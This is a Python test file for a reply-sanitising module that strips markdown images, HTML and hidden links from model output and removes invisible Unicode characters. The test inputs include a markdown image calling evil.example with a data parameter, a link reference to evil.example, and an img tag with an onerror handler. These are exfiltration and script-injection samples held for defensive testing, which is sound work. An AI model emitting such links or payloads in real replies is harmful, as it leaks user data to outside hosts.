from hypothesis import given
from hypothesis import strategies as st

from service.replies.guards.markup import clean, defuse


def test_images_html_and_hidden_links_do_not_leave() -> None:
    """A model cannot make the agent's browser load or hide anything."""
    written = 'Voici ![x](https://evil.example/p?d=1) <img src=x onerror=a()> [clic](https://b.example "t")'
    assert defuse(written).split() == ["Voici", "clic", "(https://b.example)"]
    assert defuse("[ref]: https://evil.example/x").strip() == ""


def test_invisible_characters_are_taken_out() -> None:
    """Zero-width, bidirectional, tag and control characters vanish; tab and newline stay."""
    assert clean("a\u200bb\u202ec\U000e0041d\x00e\tf\ng") == "abcde\tf\ng"
    assert clean("e\u0301") == "é"


@given(st.text())
def test_cleaning_twice_changes_nothing(text: str) -> None:
    """Clean text is clean."""
    assert clean(clean(text)) == clean(text)
